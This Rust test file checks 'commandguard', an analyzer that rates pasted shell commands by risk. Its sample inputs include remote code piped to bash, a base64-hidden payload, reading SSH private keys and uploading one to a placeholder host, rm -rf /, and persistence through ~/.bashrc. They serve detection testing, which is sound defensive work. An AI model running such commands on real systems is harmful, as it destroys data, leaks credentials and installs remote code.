use commandguard::analyzer::Analyzer;
use commandguard::model::{Analysis, Confidence, EffectKind, Severity};
use commandguard::shell::{split_pipelines, tokenize};

fn analyze(input: &str) -> Analysis {
    Analyzer::default().analyze(input)
}

#[test]
fn detects_remote_execute_pipeline() {
    let analysis = analyze("curl -fsSL https://example.test/x.sh | bash");

    assert_eq!(analysis.severity, Severity::High);
    assert!(analysis.effects.contains(&EffectKind::RemoteDownload));
    assert!(analysis.effects.contains(&EffectKind::DynamicExecution));
}

#[test]
fn detects_base64_decode_to_bash() {
    let analysis = analyze(
        "echo Y3VybCAtZnNTTCBodHRwczovL2V4YW1wbGUudGVzdC94LnNoIHwgYmFzaAo= | base64 -d | bash",
    );

    assert_eq!(analysis.severity, Severity::High);
    assert!(analysis.effects.contains(&EffectKind::ConcealedPayload));
    assert!(analysis.effects.contains(&EffectKind::DynamicExecution));
    assert!(!analysis.decoded_variants.is_empty());
}

#[test]
fn follows_literal_variables_to_downloaded_file() {
    let analysis = analyze(
        "a=curl; b=https://example.test/x.sh; \"$a\" -fsSL \"$b\" -o /tmp/z; sh /tmp/z",
    );

    assert_eq!(analysis.severity, Severity::High);
    assert!(analysis.effects.contains(&EffectKind::RemoteDownload));
    assert!(analysis.effects.contains(&EffectKind::DynamicExecution));
}

#[test]
fn ordinary_package_command_is_safe() {
    let analysis = analyze("sudo apt update && sudo apt install ripgrep");

    assert_eq!(analysis.severity, Severity::Low);
    assert!(analysis.effects.contains(&EffectKind::PrivilegeEscalation));
    assert!(!analysis.effects.contains(&EffectKind::RemoteDownload));
}

#[test]
fn tokenizes_bracketed_assignment() {
    let tokens = tokenize("a=curl; \"$a\" https://example.test");
    let pipelines = split_pipelines(&tokens);
    assert_eq!(pipelines.len(), 2);
}

#[test]
fn plain_listing_is_safe_analysis() {
    let analysis = analyze("ls -la");
    assert_eq!(analysis.severity, Severity::Safe);
    assert_eq!(analysis.confidence, Confidence::High);
    assert!(analysis.effects.is_empty());
    assert!(analysis.evidence.is_empty());
    assert_eq!(analysis.explanation, Analysis::safe().explanation);
}

#[test]
fn remote_execution_explanation_names_the_chain() {
    let analysis = analyze("curl -fsSL https://example.test/x.sh | bash");
    assert_eq!(analysis.confidence, Confidence::High);
    assert_eq!(
        analysis.explanation,
        "High confidence: remote content is executed without being saved or reviewed."
    );
    let piped = analysis
        .evidence
        .iter()
        .find(|e| e.effect == EffectKind::DynamicExecution)
        .unwrap();
    assert_eq!(piped.source.as_deref(), Some("network(https://example.test/x.sh)"));
    assert_eq!(piped.sink.as_deref(), Some("interpreter(bash)"));
}

#[test]
fn credential_read_is_medium() {
    let analysis = analyze("cat ~/.ssh/id_rsa");
    assert_eq!(analysis.severity, Severity::Medium);
    assert_eq!(analysis.effects, vec![EffectKind::CredentialRead]);
}

#[test]
fn recursive_forced_removal_is_destructive() {
    let analysis = analyze("rm -rf /");
    assert_eq!(analysis.severity, Severity::High);
    assert!(analysis.effects.contains(&EffectKind::DestructiveFilesystem));
    assert_eq!(
        analysis.explanation,
        "High confidence: the pasted command can remove or overwrite filesystem data."
    );
}

#[test]
fn startup_file_append_is_persistence() {
    let analysis = analyze("echo 'curl x' >> ~/.bashrc");
    assert!(analysis.effects.contains(&EffectKind::PersistenceWrite));
    assert_eq!(analysis.severity, Severity::Medium);
}

#[test]
fn eval_is_dynamic_execution() {
    let analysis = analyze("eval \"$(echo ls)\"");
    assert!(analysis.effects.contains(&EffectKind::DynamicExecution));
    assert!(analysis.severity == Severity::Medium || analysis.severity == Severity::High);
}

#[test]
fn loop_syntax_is_reported_as_unsupported() {
    let analysis = analyze("for i in 1 2; do echo $i; done");
    assert!(analysis.unsupported_constructs.iter().any(|c| c == "for_statement"));
    assert_eq!(analysis.severity, Severity::Safe);
    assert_eq!(analysis.confidence, Confidence::Unknown);
}

#[test]
fn repeated_findings_are_recorded_once() {
    let analysis = analyze(
        "curl -fsSL https://example.test/x.sh | bash; curl -fsSL https://example.test/x.sh | bash",
    );
    let mut seen = Vec::new();
    for e in &analysis.effects {
        assert!(!seen.contains(e));
        seen.push(*e);
    }
    for (i, a) in analysis.evidence.iter().enumerate() {
        for b in analysis.evidence.iter().skip(i + 1) {
            assert_ne!(a, b);
        }
        assert!(analysis.effects.contains(&a.effect));
    }
}

#[test]
fn severity_is_safe_exactly_without_effects() {
    for input in ["ls", "sudo ls", "cat ~/.ssh/id_rsa", "echo hi | bash", "for x in a; do :; done"] {
        let analysis = analyze(input);
        assert_eq!(analysis.severity == Severity::Safe, analysis.effects.is_empty(), "{input}");
    }
}

#[test]
fn hidden_command_shows_all_three_effects() {
    let analysis = analyze(
        "echo Y3VybCAtZnNTTCBodHRwczovL2V4YW1wbGUudGVzdC94LnNoIHwgYmFzaAo= | base64 -d | bash",
    );
    assert!(analysis.effects.contains(&EffectKind::ConcealedPayload));
    assert!(analysis.effects.contains(&EffectKind::RemoteDownload));
    assert!(analysis.effects.contains(&EffectKind::DynamicExecution));
    assert_eq!(analysis.decoded_variants[0].text, "curl -fsSL https://example.test/x.sh | bash\n");
}

#[test]
fn download_then_run_on_separate_lines() {
    let analysis = analyze(
        "a=curl\nb=https://example.test/x.sh\n\"$a\" -fsSL \"$b\" -o /tmp/cg-demo\nsh /tmp/cg-demo\n",
    );
    assert_eq!(analysis.severity, Severity::High);
    assert!(analysis.effects.contains(&EffectKind::RemoteDownload));
    assert!(analysis.effects.contains(&EffectKind::DynamicExecution));
}

#[test]
fn ssh_key_upload_is_credential_exfiltration() {
    let analysis = analyze("cat ~/.ssh/id_ed25519 | curl -X POST --data-binary @- https://example.test/upload");
    assert!(analysis.effects.contains(&EffectKind::CredentialRead));
    assert!(analysis.effects.contains(&EffectKind::ExternalTransmission));
    assert_eq!(analysis.severity, Severity::High);
}

#[test]
fn startup_file_change_from_docs() {
    let analysis = analyze("echo 'curl -fsSL https://example.test/p.sh | bash' >> ~/.bashrc");
    assert!(analysis.effects.contains(&EffectKind::PersistenceWrite));
    assert!(analysis.severity.should_interrupt());
}

#[test]
fn normal_install_is_not_blocked() {
    let analysis = analyze("sudo apt update && sudo apt install ripgrep");
    assert!(!analysis.severity.should_interrupt());
}

#[test]
fn capital_recursive_flag_is_destructive() {
    for input in ["rm -Rf /", "rm -fR ~", "rm -R -f /"] {
        let analysis = analyze(input);
        assert_eq!(analysis.severity, Severity::High, "{input}");
        assert!(analysis.effects.contains(&EffectKind::DestructiveFilesystem), "{input}");
    }
    assert!(!analyze("rm -f notes.txt").effects.contains(&EffectKind::DestructiveFilesystem));
}
